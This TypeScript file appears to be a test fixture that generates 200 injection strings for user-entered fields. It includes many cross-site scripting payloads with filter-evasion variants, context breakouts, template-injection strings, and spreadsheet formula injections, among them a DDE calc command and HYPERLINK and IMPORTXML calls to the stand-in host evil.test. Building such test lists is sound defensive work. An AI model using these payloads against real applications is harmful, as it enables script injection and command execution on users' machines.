/** The ways to run something, should a text ever be taken for a program. */
const calls = ['alert(1)', 'alert`1`', 'self.alert(1)', 'alert&#40;1&#41;', '(0,alert)(1)'];

/** Each makes an element that is marked with the attribute `z`. */
const elements = (call: string): string[] => [
  `<script z>${call}</script>`,
  `<ScRiPt z >${call}</sCrIpT >`,
  `<scr<script z>ipt>${call}</script>`,
  `<svg z onload=${call}>`,
  `<svg z><script>${call}</script></svg>`,
  `<svg z><animate onbegin=${call} attributeName=x>`,
  `<img z src=x onerror=${call}>`,
  `<IMG/z/src=x/onerror=${call}//`,
  `<img z src="javascript:${call}">`,
  `<body z onload=${call}>`,
  `<iframe z srcdoc="<script>${call}</script>">`,
  `<details z open ontoggle=${call}>`,
  `<input z autofocus onfocus=${call}>`,
  `<video z><source onerror=${call}></video>`,
  `<math z><mtext><img src=x onerror=${call}>`,
  `<object z data="javascript:${call}">`,
  `<form z><button formaction="javascript:${call}">x`,
  `<style z>@import "//evil.test/x";</style>${call}`,
  `<meta z http-equiv=refresh content=0;url=//${call}>`,
  `<a z href="javascript:${call}">x</a>`,
];

/** Break out of the place where a text usually is. */
const escapes = (call: string): string[] => [
  `"><img z src=x onerror=${call}>`,
  `'><img z src=x onerror=${call}>`,
  `" autofocus z onfocus=${call} x="`,
  `' autofocus z onfocus=${call} x='`,
  `</textarea><img z src=x onerror=${call}>`,
  `</title><script z>${call}</script>`,
  `</script><script z>${call}</script>`,
  `--><img z src=x onerror=${call}>`,
  `{{constructor.constructor("${call}")()}}`,
  `\${${call}}<%= ${call} %>`,
];

const addresses = (call: string): string[] => [
  `javascript:${call}`,
  `JaVaScRiPt://%0a${call}`,
  `java\tscript:${call}`,
  `data:text/html,<script z>${call}</script>`,
  `vbscript:${call}`,
  `//evil.test/${call}`,
];

/** Programs of a spreadsheet that opens an exported list. */
const formulas = (start: string): string[] => [
  `${start}1+1`,
  `${start}HYPERLINK("//evil.test","x")`,
  `${start}cmd|'/C calc'!A0`,
  `${start}IMPORTXML("//evil.test",1)`,
];

/** Two hundred texts that users could type into a name, a note or a reference; none is longer than sixty characters. */
export const markupPayloads: readonly string[] = [
  ...calls.flatMap((call) => [...elements(call), ...escapes(call), ...addresses(call)]),
  ...['=', '+', '-', '@', '\t='].flatMap(formulas),
];
